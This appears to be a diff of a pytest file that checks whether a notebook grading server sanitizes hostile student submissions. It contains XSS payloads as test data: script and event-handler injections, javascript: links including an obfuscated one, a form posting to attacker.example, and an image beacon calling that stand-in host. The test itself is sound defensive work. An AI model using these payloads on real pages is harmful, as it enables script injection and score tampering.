@@ -12,37 +12,43 @@ from pathlib import Path
 
 import pytest
 
-from tests.course.nbgrading import BIN, PHRASE, ROOT, begin_course, needs_sandbox, nbgrader, scores
+from tests.course.nbgrading import BIN, PHRASE, ROOT, begin_course, nbgrader, needs_sandbox, scores
 from tools import grade_demo, students
-from tools.students import role
 
 ASSIGNMENT = students.ODD_ASSIGNMENT
-CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+CHROMIUM = next(
+    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
+)
 FOREIGN = "http://attacker.example"
 RUN = f"window.owned=1;new Image().src='{FOREIGN}/ran';document.title='owned'"
 LINK = "javascript:window.owned=1"
 # nbgrader's own page asks for it; on its way out it is stopped here.
 MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"
 # What pages are made of beside a student's cells, and what no cell of a student's may have.
-FORBIDDEN = "script, style, link, form, input, button, iframe, object, embed, base, meta, svg, video"
+FORBIDDEN = (
+    "script, style, link, form, input, button, iframe, object, embed, base, meta, svg, video"
+)
 
 TEXT = f"""
 <img src="{FOREIGN}/a.png" onerror="{RUN}">
 <svg onload="{RUN}"><script>{RUN}</script></svg>
 <style>body {{ display: none }} .container {{ position: fixed; inset: 0; z-index: 9 }}</style>
-<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url({FOREIGN}/b)">x</div>
+<div style="position:fixed;inset:0;width:100vw;height:100vh;background:url({FOREIGN}/b)"></div>
 <form action="{FOREIGN}/form"><input name="score" value="20"><button>Save</button></form>
 <iframe srcdoc="<script>parent.owned=1</script>"></iframe><base href="{FOREIGN}/">
 <a href="javascript:{RUN}">one</a> <a href="#" onclick="{RUN}">two</a>
 
 [three]({LINK}) [four](  JaVaScRiPt:window.owned=1) [five](data:text/html,<svg/onload={LINK}>)
-![six]({FOREIGN}/c.png) ![seven](attachment:eight.png) <{LINK}> [ten](&#106;avascript:window.owned=1)
-[eleven](vbscript:x) [twelve](<{LINK}>) [nine] `<img src=x onerror={RUN}>` \\<img src=x onerror={RUN}>
+![six]({FOREIGN}/c.png) ![seven](attachment:eight.png) <{LINK}>
+[ten](&#106;avascript:window.owned=1)
+[eleven](vbscript:x) [twelve](<{LINK}>) [nine] `<img src=x onerror={RUN}>`
+\\<img src=x onerror={RUN}>
 
 [nine]: {LINK}
 
 $i < j$ and $\\frac{{q \\cdot k}}{{\\sqrt{{d_k}}}}$, but $\\text{{<img src=x onerror={RUN}>}}$
-$\\href{{javascript:{RUN}}}{{x}}$ $\\style{{position:fixed}}{{x}}$ $\\unknown{{<script>{RUN}</script>}}$
+$\\href{{javascript:{RUN}}}{{x}}$ $\\style{{position:fixed}}{{x}}$
+$\\unknown{{<script>{RUN}</script>}}$
 
 $$\\sum_j a_{{ij}} = 1$$
 
@@ -54,10 +60,12 @@ $$\\sum_j a_{{ij}} = 1$$
 graph TD; a["<img src=x onerror={RUN}>"]
 ```
 """
-OUTPUTS = f"""
+OUTPUTS = (
+    f"""
 from IPython.display import display
 run, foreign = {RUN!r}, {FOREIGN!r}
-""" + """
+"""
+    + """
 image = f'<img src=x onerror="{run}">'
 tried = {
     "text/html": f"<script>{run}</script>{image}",
@@ -83,6 +91,7 @@ for kind, about in {
     kernel.session.send(kernel.iopub_socket, kind, about, parent=kernel.get_parent())
 kernel.language_info["name"] = nasty
 """
+)
 
 
 def attempts(given):
@@ -128,12 +137,13 @@ def formgrader(course):
     settings |= {"HOME": str(course), "JUPYTER_RUNTIME_DIR": str(course / "runtime")}
     options = ("--allow-root", "--no-browser", "--IdentityProvider.token=", "--ServerApp.port=0")
     command = [BIN / "jupyter", "server", *options, f"--ServerApp.root_dir={course}"]
-    log = open(course / "server.log", "w")
-    with subprocess.Popen(command, cwd=course, env=settings, stdout=log, stderr=log) as server:
+    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+    with subprocess.Popen(command, cwd=course, env=settings, **quiet) as server:
         try:
             deadline = time.monotonic() + 60
             while not (found := list(course.glob("runtime/jpserver-*.json"))):
-                assert server.poll() is None and time.monotonic() < deadline, log
+                assert server.poll() is None
+                assert time.monotonic() < deadline
                 time.sleep(0.2)
             address = json.loads(found[0].read_text())["url"]
             asks = (
@@ -146,7 +156,6 @@ def formgrader(course):
             yield f"{address}formgrader/submissions/{name}/?index=0"
         finally:
             server.terminate()
-            log.close()
 
 
 @pytest.fixture(scope="module")
